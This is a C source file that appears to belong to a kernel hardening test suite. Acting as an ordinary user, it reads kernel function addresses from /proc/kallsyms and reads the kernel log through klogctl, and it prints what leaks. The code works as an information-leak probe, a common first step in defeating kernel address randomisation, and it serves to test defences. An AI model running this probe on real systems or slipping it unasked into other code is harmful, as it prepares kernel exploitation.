/*
 * A leak for the asking.  An ordinary user reads the kernel's symbol table in /proc, as exploits have
 * done for decades, and the kernel's log.
 */
#include "user/attack/attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <unistd.h>

#define READ_ALL 3 /* of syslog(2) */

char attack_log[4096];

/* Whether /proc/kallsyms lists a function; *address: where it says that it is. */
static int
look_up(const char *function, unsigned long long *address)
{
	char line[256], name[128];
	FILE *file = fopen("/proc/kallsyms", "r");
	int found = 0;

	if (!file)
		give_up("/proc/kallsyms");
	while (!found && fgets(line, sizeof(line), file))
		found = sscanf(line, "%llx %*c %127s", address, name) == 2 &&
			strcmp(name, function) == 0;
	fclose(file);
	return found;
}

static void
run(void)
{
	unsigned long long address = 0;

	step("legal: an ordinary user asks which functions the kernel has");
	if (setgid(1000) || setuid(1000))
		give_up("cannot become an ordinary user");
	if (!look_up("kernel_main", &address))
		give_up("/proc/kallsyms lists no kernel_main");

	step("illegal: it asks where one is, and reads the kernel's log");
	attack_address = address;
	klogctl(READ_ALL, attack_log, sizeof(attack_log) - 1);
	if (!address && !attack_log[0]) {
		step("the kernel tells nothing");
		exit(1);
	}
	printf("  kernel_main is at %#llx; the log begins \"%.24s\"\n", address, attack_log);
}

ATTACK(leaks) = {
	.name = "leaks",
	.what = "an ordinary user asks for kernel addresses and for the log",
	.needs_off_x86_64 = "leaks",
	.needs_off_aarch64 = "leaks",
	.run = run,
};
